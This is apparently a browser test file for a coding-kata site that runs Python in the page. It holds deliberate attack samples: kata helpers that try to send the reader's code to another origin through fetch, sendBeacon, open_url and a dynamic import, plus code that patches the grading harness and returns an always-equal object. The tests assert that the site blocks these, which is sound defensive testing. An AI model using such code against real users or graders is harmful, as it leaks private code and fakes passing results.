"""The kata box in the browser (issue #13 point 4; findings F10 and F17 of the security probe):
kata content cannot send the reader's code to another origin, and no run, the reader's or a
kata's, can change how a later run is judged."""
from __future__ import annotations

import contextlib
import html
import http.server
import json
import re
import threading
from typing import Iterator

import pytest

from browser import at
from test_browser_katas import KATAS, PURE, open_kata, press, set_code, status

pytestmark = pytest.mark.browser
OTHER = "bpe-tokenizer"  # a second pure kata, reached by instant navigation
SPEC = re.compile(r'data-lg-data="([^"]*)"')


def serve_changed_kata(page, kata_id: str, **changes) -> None:
    """Serve the kata's page with its spec changed, as a pull request changing its YAML would."""
    def rewrite(route):
        response = route.fetch()
        body = response.text()
        found = SPEC.search(body)
        spec = json.loads(html.unescape(found.group(1)))
        spec.update(changes)
        body = body[:found.start(1)] + html.escape(json.dumps(spec), quote=True) + body[found.end(1):]
        route.fulfill(response=response, body=body)

    page.route(f"**/katas/{kata_id}/", rewrite)


@contextlib.contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server on another origin that records every request it receives: (base URL, paths)."""
    received: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            received.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", received
    finally:
        server.shutdown()
        server.server_close()


def exfiltrating_helpers(leak: str, canary: str) -> str:
    """Helpers that try every way out of the worker; the canary, same-origin, proves they ran."""
    return f"""
import inspect as _inspect, urllib.parse as _parse
try:  # the helpers also run once without the reader's code, for the expected values
    _code = _parse.quote(_inspect.getsource({KATAS[PURE]['entrypoint']})[:200])
except Exception:
    _code = "none"
try:
    import pyodide.http as _http
    _http.open_url({canary!r})
except Exception:
    pass
try:
    _http.open_url({leak!r} + "/open_url?c=" + _code)
except Exception:
    pass
try:
    import js as _js
    _js.fetch({leak!r} + "/fetch?c=" + _code)
    _js.navigator.sendBeacon({leak!r} + "/beacon?c=" + _code)
except Exception:
    pass
try:
    from pyodide.code import run_js as _run_js
    _run_js('import(' + {leak!r} + ' + "/import?c=' + _code + '")')
except Exception:
    pass
"""


def navigate_to_kata(page, kata_id: str) -> None:
    """Follow the site's links to a kata; instant navigation keeps the document and its worker."""
    page.evaluate("window.lgSameDocument = true")
    page.get_by_role("link", name="Katas", exact=True).first.click()
    page.wait_for_url(at("/katas/"))
    page.locator(f"a[data-kata='{kata_id}']").click()
    page.wait_for_url(at(f"/katas/{kata_id}/"))
    page.get_by_role("textbox", name="Code editor").wait_for()
    assert page.evaluate("window.lgSameDocument") is True


def open_by_instant_navigation(page, site: str, kata_id: str) -> None:
    """Arrive from the home page: the document, and so the worker's policy, is the home page's."""
    page.goto(site + "/")
    page.wait_for_load_state("networkidle")  # instant navigation follows links once the sitemap is in
    navigate_to_kata(page, kata_id)


@pytest.mark.parametrize("arrive", ["on the kata page", "by instant navigation"])
def test_f10_kata_helpers_cannot_send_the_readers_code_to_another_origin(site, page, arrive):
    kata = KATAS[PURE]
    with listener() as (leak, received):
        canary = f"{site}/?helpers-ran"
        serve_changed_kata(page, PURE, helpers=exfiltrating_helpers(leak, canary))
        if arrive == "on the kata page":
            open_kata(page, site, PURE)
        else:
            open_by_instant_navigation(page, site, PURE)
        set_code(page, kata["solution"])
        press(page, "Run tests")
        assert status(page) == f"All {len(kata['tests'])} tests passed. Kata solved."
        page.wait_for_timeout(1500)  # fetch() and import() are asynchronous
        assert canary in page.requests, "the helpers did not run, so the test proves nothing"
        assert received == []


MAGIC = """
import sys
try:
    sys.modules['kata_harness'].same = lambda *a, **k: (True, '')
except Exception:
    pass


class Anything:
    __module__ = 'numpy'  # passes for a NumPy array or scalar by name

    def __eq__(self, other):
        return True

    def __getitem__(self, index):
        return self

    def __len__(self):
        return 2

    def __float__(self):
        return 0.0


def reciprocal_rank_fusion(rankings, k=60, top_n=None):
    return Anything()
"""
WRONG = "def reciprocal_rank_fusion(rankings, k=60, top_n=None):\n    return [('x', 1.0)]\n"


def solved(page, kata_id: str) -> bool:
    return page.evaluate("id => Boolean(JSON.parse(localStorage.getItem('loopguide.progress.v1') || '{}')"
                         ".katas?.[id]?.solved)", kata_id)


def test_f17_a_patched_harness_and_a_magic_object_do_not_solve_a_kata_nor_later_runs(site, page):
    kata = KATAS[PURE]
    open_kata(page, site, PURE)
    set_code(page, MAGIC)
    press(page, "Run tests")
    assert status(page) == f"0 of {len(kata['tests'])} tests passed."
    set_code(page, WRONG)  # the same warm worker
    press(page, "Run tests")
    assert "Kata solved" not in status(page)
    assert not solved(page, PURE)
    set_code(page, kata["solution"])
    press(page, "Run tests")
    assert status(page) == f"All {len(kata['tests'])} tests passed. Kata solved."


def test_f17_one_katas_setup_does_not_change_how_another_kata_is_judged(site, page):
    patching_setup = ("import sys, collections\n"
                      "sys.modules['kata_harness'].same = lambda *a, **k: (True, '')\n"
                      "collections.Counter = dict\n")
    serve_changed_kata(page, PURE, setup=patching_setup)
    open_kata(page, site, PURE)
    set_code(page, WRONG)
    press(page, "Run tests")
    assert "tests passed" in status(page)  # judged, not crashed: the worker is still the same
    navigate_to_kata(page, OTHER)  # the next kata runs in the same Python
    set_code(page, "def train_bpe(corpus, num_merges):\n    return [('x', 'y')]\n\n\ndef encode(text, merges):\n    return list(text)\n")
    press(page, "Run tests")
    assert "Kata solved" not in status(page)
    assert not solved(page, OTHER)
    set_code(page, KATAS[OTHER]["solution"])
    press(page, "Run tests")
    assert status(page) == f"All {len(KATAS[OTHER]['tests'])} tests passed. Kata solved."
